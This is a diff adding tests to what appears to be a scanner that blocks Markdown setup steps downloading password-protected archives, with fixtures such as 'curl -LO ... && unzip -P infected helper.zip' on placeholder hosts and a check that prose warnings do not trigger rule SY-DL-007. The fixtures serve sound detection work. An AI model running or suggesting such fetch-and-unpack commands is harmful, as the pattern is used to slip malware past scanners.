@@ -288,3 +288,26 @@ def test_a_rule_read_across_lines_costs_a_bounded_number_of_searches_per_line(
 
     small, large = work(200), work(400)
     assert large <= 2 * small + 50
+
+
+# ------------------------------------------------ the words of a command in a code span are not prose about it
+
+
+def test_download_unpacked_with_a_password_in_a_lone_code_span_blocks(tmp_path: Path) -> None:
+    for i, md in enumerate(
+        [
+            "## Setup\n\nFirst fetch the helper bundle: "
+            "`curl -LO https://files.example.test/helper.zip && unzip -P infected helper.zip`\n",
+            "## Setup\n\nRun `curl -LO https://cdn.host.test/like/helper.zip && unzip -P s3 helper.zip -d patterns`.\n",
+        ]
+    ):
+        assert "SY-DL-007" in blocking(tmp_path / str(i), {}, md)
+
+
+def test_password_protected_archive_talked_about_in_prose_does_not_block(tmp_path: Path) -> None:
+    md = (
+        "## Notes\n\n"
+        "Never run `curl -LO https://files.example.test/x.zip && unzip -P pw x.zip` from a ticket.\n\n"
+        "The tool refuses archives like `unzip -P pw x.zip` because passwords in argv leak.\n"
+    )
+    assert blocking(tmp_path, {}, md) == {}
